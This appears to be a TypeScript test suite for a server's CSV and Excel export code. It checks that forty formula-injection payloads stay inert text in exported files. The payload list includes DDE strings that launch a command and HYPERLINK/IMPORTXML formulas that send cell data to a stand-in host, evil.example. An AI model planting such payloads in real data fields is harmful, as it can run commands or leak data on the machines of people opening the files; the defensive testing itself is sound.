import { inflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import { LOCALES } from 'shared/locale/locale.ts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeCsv } from '../../server/src/exports/export.csv.ts';
import type { ExportView } from '../../server/src/exports/export.view.ts';
import { COLUMN_KEYS } from '../../server/src/exports/export.words.ts';
import { writeXlsx } from '../../server/src/exports/export.xlsx.ts';
import { barePieces, bytesOf, csvCells, forgivenCells, NOTHING_KNOWN, xlsxTexts } from '../../server/src/testing/export-files.ts';
import { openHttpWorld } from '../../server/src/testing/http-world.ts';
import type { HttpWorld } from '../../server/src/testing/http-world.ts';
import { anOpportunity } from '../../server/src/testing/opportunities.ts';
import { printable } from '../../server/src/kernel/printable.ts';
import { figure, times } from './scale.ts';

const CALC = `cmd|' /C calc'!A0`;

/** What an attacker types into a text field to be run on the reader's machine. */
const PAYLOADS: readonly string[] = [
  `=${CALC}`,
  `+${CALC}`,
  `-${CALC}`,
  `@SUM(1+1)*${CALC}`,
  '=HYPERLINK("https://evil.example?x="&A1,"open")',
  '=IMPORTXML("https://evil.example","//a")',
  `\t=${CALC}`,
  `\r=${CALC}`,
  `\n=${CALC}`,
  `\r\n=${CALC}`,
  `＝${CALC}`,
  `＋${CALC}`,
  `－${CALC}`,
  '＠SUM(A1)',
  '﹦1+1',
  '−2+3',
  ` =${CALC}`,
  `\u00a0=${CALC}`,
  `\ufeff=${CALC}`,
  `\u200b=${CALC}`,
  `\u202e=${CALC}`,
  `\u0001=${CALC}`,
  `"=${CALC}`,
  `""=${CALC}"`,
  ';=1+1',
  ',=1+1',
  'Завод;=1+1',
  'Works, =1+1',
  'Works,"=1+1"',
  'Завод";=1+1;"',
  `Завод\r\n=${CALC}`,
  `Завод\n+${CALC}`,
  `Завод\r@SUM(1)`,
  'Завод\n"=1+1"',
  `Завод|=${CALC}`,
  '=_x003D_1+1',
  '_x003D_1+1',
  'a\u2028=1+1',
  `${'я'.repeat(32_767)}=${CALC}`,
  `${'я'.repeat(32_765)};=1+1`,
];

/** Columns with text that people wrote; the others hold numbers and our own words. */
const inEveryColumn = (payload: string): ExportView => ({
  ...NOTHING_KNOWN,
  title: payload,
  region: payload,
  town: payload,
  zone: payload,
  place: payload,
  steward: payload,
  oked: [{ code: payload, name: payload }],
  sources: [payload, payload],
  statusAsOf: payload,
  asOf: payload,
  address: payload,
});

/** Whether a spreadsheet would run the cell, ignoring spaces, quotes and invisible characters. */
const isRun = (cell: string): boolean =>
  /^[\s"«»“”„\p{Cf}\p{Cc}\p{Zs}]*[=+@＝＋－＠﹦−-]/u.test(cell) && !/^"?[+-]?\d+([.,]\d+)?"?$/.test(cell.trim());

const READERS = [forgivenCells, barePieces];

/** Cells that some reader would run, with the separator of the file or with another one. */
const runIn = (file: Buffer): string[] =>
  READERS.flatMap((read) => [';', ',', '\t'].flatMap((delimiter) => read(file, delimiter).filter(isRun)));

const OWN_SEPARATOR = { RU: ';', KK: ';', EN: ',' } as const;

const isInertInCsv = async (payload: string): Promise<boolean> => {
  for (const locale of LOCALES) {
    const file = await bytesOf(writeCsv, [inEveryColumn(payload)], { locale });
    const isWellFormed = csvCells(file, OWN_SEPARATOR[locale]).length === 2 * COLUMN_KEYS.length;
    if (!isWellFormed || runIn(file).length > 0) return false;
  }
  return true;
};

/** Excel cuts what is too long and cannot store control characters; everything else comes back as it was written. */
const inXlsx = (payload: string): string => {
  const cut = payload.length > 32_767 ? `${payload.slice(0, 32_766)}…` : payload;
  return printable(cut);
};

const isInertInXlsx = async (payload: string): Promise<boolean> => {
  const { texts, formulas } = await xlsxTexts(await bytesOf(writeXlsx, [inEveryColumn(payload)]));
  // Nine cells are the payload alone; two join it with itself.
  return formulas.length === 0 && texts.filter((text) => text === inXlsx(payload)).length >= 9;
};

describe('forty payloads in every text column', () => {
  it('are forty', () => {
    expect(new Set(PAYLOADS).size).toBe(40);
  });

  it('are run by nothing that reads the CSV files, with either separator', async () => {
    const inert = await Promise.all(PAYLOADS.map(isInertInCsv));
    figure('CSV payloads inert, of 40', inert.filter(Boolean).length);
    expect(PAYLOADS.filter((_, index) => !inert[index])).toEqual([]);
  });

  it('are text in the workbook, unchanged', async () => {
    const inert = await Promise.all(PAYLOADS.map(isInertInXlsx));
    figure('XLSX payloads inert, of 40', inert.filter(Boolean).length);
    expect(PAYLOADS.filter((_, index) => !inert[index])).toEqual([]);
  });

  it('stay text when somebody opens their cell and confirms it', async () => {
    const file = await bytesOf(
      writeXlsx,
      ['=1+1', 'honest'].map((title) => ({ ...NOTHING_KNOWN, title })),
    );
    const sheet = unzipped(file, 'xl/worksheets/sheet1.xml');
    expect(sheet).toMatch(/<c r="A2" s="5" t="inlineStr">/);
    expect(sheet).toMatch(/<c r="A3" t="inlineStr">/);
    expect(
      unzipped(file, 'xl/styles.xml')
        .match(/<xf [^>]*>/g)
        ?.at(-1),
    ).toContain('quotePrefix="1"');
  });

  it('and so does every other combination of their signs', async () => {
    const sign = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '＝',
      '"',
      '""',
      "'",
      ';',
      ',',
      '\t',
      '\r',
      '\n',
      ' ',
      '\u00a0',
      '\u200b',
      '\ufeff',
      'я',
      'a',
      '1',
      '|',
      '_x003D_',
    );
    const cell = fc.array(sign, { maxLength: 8 }).map((signs) => signs.join(''));
    await fc.assert(
      fc.asyncProperty(
        fc.array(cell, { minLength: 3, maxLength: 3 }),
        fc.constantFrom(...LOCALES),
        async ([title = '', place = '', steward = ''], locale) => {
          expect(runIn(await bytesOf(writeCsv, [{ ...NOTHING_KNOWN, title, place, steward, sources: [title] }], { locale }))).toEqual([]);
        },
      ),
      { numRuns: times(500, 50_000) },
    );
  });
});

/** One member of an archive whose members have no sizes in front of them, found by the directory at its end. */
const unzipped = (file: Buffer, wanted: string): string => {
  let at = file.readUInt32LE(file.lastIndexOf(Buffer.from('504b0506', 'hex')) + 16);
  for (;;) {
    const name = file.toString('utf8', at + 46, at + 46 + file.readUInt16LE(at + 28));
    const [packed, offset] = [file.readUInt32LE(at + 20), file.readUInt32LE(at + 42)];
    const method = file.readUInt16LE(at + 10);
    const begin = offset + 30 + file.readUInt16LE(offset + 26) + file.readUInt16LE(offset + 28);
    const bytes = file.subarray(begin, begin + packed);
    if (name === wanted) return (method === 0 ? bytes : inflateRawSync(bytes)).toString('utf8');
    at += 46 + file.readUInt16LE(at + 28) + file.readUInt16LE(at + 30) + file.readUInt16LE(at + 32);
  }
};

describe('the same payloads in the database', () => {
  let world: HttpWorld;
  // Titles longer than the search takes are tried on the writers only.
  const payloads = PAYLOADS.filter(({ length }) => length < 1_000);

  beforeAll(async () => {
    world = await openHttpWorld();
    const owner = world.database.ownerPool;
    for (const payload of payloads) {
      const slug = await anOpportunity(owner, { title: payload });
      await owner.query(
        `update opportunity set place = jsonb_build_object('ru', $2::text), sources = array[$2::text], as_of = $2::text, status_as_of = $2::text where slug = $1`,
        [slug, payload],
      );
    }
    await owner.query(`update organisation set name = jsonb_build_object('ru', $1::text) where slug = 'ertis'`, [PAYLOADS[4]]);
    await world.services.reference.refresh();
  });
  afterAll(() => world.close());

  const take = async (path: string): Promise<Buffer> => (await world.app.inject({ method: 'GET', url: path })).rawPayload;

  it.each(['', '/kk', '/en'])('leave as inert files (%s)', async (prefix) => {
    expect(runIn(await take(`${prefix}/export/opportunities.csv`))).toEqual([]);
    const { texts, formulas } = await xlsxTexts(await take(`${prefix}/export/opportunities.xlsx`));
    expect(formulas).toEqual([]);
    expect(payloads.filter((payload) => !texts.includes(inXlsx(payload)))).toEqual([]);
  });

  it('leave as plain strings of JSON', async () => {
    const { features } = JSON.parse((await take('/export/opportunities.geojson')).toString('utf8')) as {
      features: { properties: { title: string } }[];
    };
    const titles = new Set(features.map(({ properties }) => properties.title));
    expect(payloads.filter((payload) => !titles.has(payload))).toEqual([]);
  });
});
